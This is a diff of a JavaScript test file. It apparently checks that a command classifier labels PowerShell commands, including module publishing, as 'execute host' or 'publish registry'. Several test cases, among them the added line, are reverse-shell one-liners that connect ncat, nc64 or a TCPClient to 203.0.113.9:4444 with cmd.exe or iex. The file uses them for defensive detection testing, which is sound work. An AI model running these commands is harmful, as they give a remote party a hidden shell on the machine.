@@ -37,6 +37,7 @@ describe('cmdlets of modules that manage what others work with', () => {
     ['Publish-Module -Path . -NuGetApiKey $k', 'publish registry:PSGallery'],
     ['Publish-PSResource -Path . -Repository PSGallery', 'publish registry:PSGallery'],
     ["[Diagnostics.Process]::Start('ncat.exe', '203.0.113.9 4444 -e cmd.exe')", 'execute host'],
+    ["Start-Process -WindowStyle Hidden ncat.exe -ArgumentList '203.0.113.9', '4444', '-e', 'cmd.exe'", 'execute host'],
     ['nc64.exe 203.0.113.9 4444 -e cmd.exe', 'execute host'],
     ["$c = New-Object Net.Sockets.TCPClient('203.0.113.9', 4444); $s = $c.GetStream(); iex $d", 'execute host:commands'],
   ])('%s', async (command, expected) => {
